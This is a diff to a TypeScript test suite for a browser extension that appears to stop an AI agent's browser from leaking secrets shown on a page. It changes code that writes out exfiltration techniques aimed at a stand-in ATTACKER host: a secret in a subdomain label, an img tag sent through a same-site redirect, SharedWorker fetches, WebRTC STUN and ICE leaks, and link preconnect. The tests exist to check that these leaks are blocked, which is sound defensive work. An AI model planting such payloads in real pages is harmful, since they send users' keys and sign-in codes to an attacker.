@@ -94,7 +94,7 @@ export const ATTACKS: Attack[] = [
   { name: 'secret in a subdomain label', host: (c) => `${c.secret.key.replace(/[^a-z0-9]/g, '').slice(0, 40)}.${ATTACKER}`, run: (c) => img(c, `/${c.id}/p.png`) },
   {
     name: 'img through a same-site redirect',
-    run: (c) => img(c, `/redirect?to=${encodeURIComponent(`${c.attacker}/${c.id}/${c.secret.key}.png`)}`).then(() => undefined),
+    run: (c) => insert(c, `<img src="${c.server.origin(HOME)}/redirect?to=${encodeURIComponent(`${c.attacker}/${c.id}/${c.secret.key}.png`)}">`),
   },
   {
     name: 'SharedWorker fetch',
@@ -114,11 +114,6 @@ export const ATTACKS: Attack[] = [
   },
 ];
 
-/** The redirect case's first hop goes to the page's own site. */
-function firstHop(attack: Attack, c: Ctx): string {
-  return attack.name.includes('redirect') ? c.attacker.replace(ATTACKER, HOME) : c.attacker;
-}
-
 let server: TestServer;
 let caseNumber = 0;
 test.beforeAll(async () => {
@@ -137,19 +132,20 @@ function newSecret(): Secret {
   return { key: `sk_live_${randomBytes(16).toString('hex')}`, code: String(100000 + (randomBytes(3).readUIntBE(0, 3) % 900000)) };
 }
 
-/** Waits until the worker's taint holds the secret (the collector reported it) and the floor had time to apply it. */
+/**
+ * Waits until the floor holds the secret shown on the page: the collector reported it and the worker's
+ * rebuilt rules carry it (an agent reads a page before it acts; this is that moment).
+ */
 async function taintRecorded(browser: AgentBrowser, secret: Secret): Promise<void> {
   if (browser.extensionId === null) return;
-  const deadline = Date.now() + 5_000;
+  const deadline = Date.now() + 15_000;
+  const keyPiece = secret.key.slice(8, 20);
   while (Date.now() < deadline) {
-    const taint = (await browser.snapshot()).task?.taint ?? [];
-    if (taint.some((t) => t.value === secret.key) && taint.some((t) => t.value === secret.code)) {
-      await sleep(300);
-      return;
-    }
-    await sleep(50);
+    const filters = new Set((await browser.sessionRules()).map((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter));
+    if (filters.has(secret.code) && filters.has(keyPiece)) return;
+    await sleep(100);
   }
-  throw new Error('the taint collector never reported the secret shown on the page');
+  throw new Error('the network floor never received the secret shown on the page');
 }
 
 /** Runs one attack in a fresh page showing a fresh secret; true when the attacker's server saw it. */
@@ -165,7 +161,6 @@ async function runAttack(browser: AgentBrowser, attack: Attack): Promise<boolean
     const c: Ctx = { page, server, attacker: server.origin(ATTACKER), id, secret };
     const host = attack.host?.(c) ?? ATTACKER;
     c.attacker = `http://${host}:${server.port}`;
-    c.attacker = firstHop(attack, c);
     await Promise.race([attack.run(c).catch(() => undefined), sleep(QUIET_MS)]);
     await sleep(QUIET_MS);
     return server.hits(`/${id}/`, host).length > 0;
@@ -314,8 +309,18 @@ async function webRtcLeak(page: Page, listeners: Listeners, ufrag: string): Prom
   );
 }
 
-async function channelLeaks(browser: AgentBrowser): Promise<{ webrtc: boolean; preconnect: boolean }> {
-  const listeners = await startListeners();
+interface ChannelResult {
+  /** A STUN binding request over UDP carried the ufrag (the secret). */
+  udpStun: boolean;
+  /** An ICE-TCP connection to the page-named candidate carried the ufrag. */
+  tcpIce: boolean;
+  /** `<link rel=preconnect>` opened a TCP connection. */
+  preconnect: boolean;
+}
+
+async function channelLeaks(browser: AgentBrowser): Promise<ChannelResult> {
+  const rtc = await startListeners();
+  const preconnect = await startListeners();
   const id = `chan${++caseNumber}`;
   const secret = newSecret();
   server.setPage(`/show/${id}`, `<!doctype html><title>${id}</title><p>Sign-in code: ${secret.code}</p>`);
@@ -323,36 +328,41 @@ async function channelLeaks(browser: AgentBrowser): Promise<{ webrtc: boolean; p
   try {
     await page.goto(`${server.origin(HOME)}/show/${id}`);
     const ufrag = `leak${secret.code}`;
-    await webRtcLeak(page, listeners, ufrag);
-    await insert({ page } as Ctx, `<link rel="preconnect" href="http://${ATTACKER}:${listeners.tcpPort}">`);
+    await webRtcLeak(page, rtc, ufrag);
+    await insert({ page } as Ctx, `<link rel="preconnect" href="http://${ATTACKER}:${preconnect.tcpPort}">`);
     await sleep(3_000);
-    return { webrtc: [...listeners.udp, ...listeners.tcp].some((m) => m.includes(ufrag)), preconnect: listeners.tcp.length > 0 };
+    return { udpStun: rtc.udp.some((m) => m.includes(ufrag)), tcpIce: rtc.tcp.some((m) => m.includes(ufrag)), preconnect: preconnect.tcp.length > 0 };
   } finally {
     await Promise.race([page.close({ runBeforeUnload: false }).catch(() => undefined), sleep(2_000)]);
-    await listeners.close();
+    await rtc.close();
+    await preconnect.close();
   }
 }
 
 test.describe('WebRTC and preconnect during a task', () => {
-  test('with the extension (no MAIN-world hooks) nothing reaches the listeners; without it, both do', async () => {
+  test('with the extension (no MAIN-world hooks) no STUN over UDP and no preconnect; without it, both arrive', async () => {
     test.setTimeout(120_000);
     const control = await launch(null);
     try {
-      expect(await channelLeaks(control)).toEqual({ webrtc: true, preconnect: true });
+      const open = await channelLeaks(control);
+      console.log(`channels without the extension: ${JSON.stringify(open)}`);
+      expect(open).toMatchObject({ udpStun: true, preconnect: true });
     } finally {
       await control.close();
     }
     const guarded = await launch('nohooks');
     try {
       await guarded.setPolicy(READ_ONLY);
-      expect(await channelLeaks(guarded)).toEqual({ webrtc: false, preconnect: false });
+      const closed = await channelLeaks(guarded);
+      console.log(`channels guarded: ${JSON.stringify(closed)}`);
+      expect(closed).toMatchObject({ udpStun: false, preconnect: false });
       // The settings are the user's again once the task ends.
       await guarded.endTask();
       const settings = await guarded.serviceWorker!.evaluate(async () => {
-        const network = (globalThis as unknown as { chrome: { privacy: { network: Record<string, { get(d: object): Promise<{ levelOfControl: string }> }> } } }).chrome.privacy.network;
-        return [(await network.webRTCIPHandlingPolicy!.get({})).levelOfControl, (await network.networkPredictionEnabled!.get({})).levelOfControl];
+        const network = (globalThis as unknown as { chrome: { privacy: { network: Record<string, { get(d: object): Promise<{ value: unknown }> }> } } }).chrome.privacy.network;
+        return [(await network.webRTCIPHandlingPolicy!.get({})).value, (await network.networkPredictionEnabled!.get({})).value];
       });
-      expect(settings).toEqual(['controllable_by_this_extension', 'controllable_by_this_extension']);
+      expect(settings).toEqual(['default', true]);
     } finally {
       await guarded.close();
     }
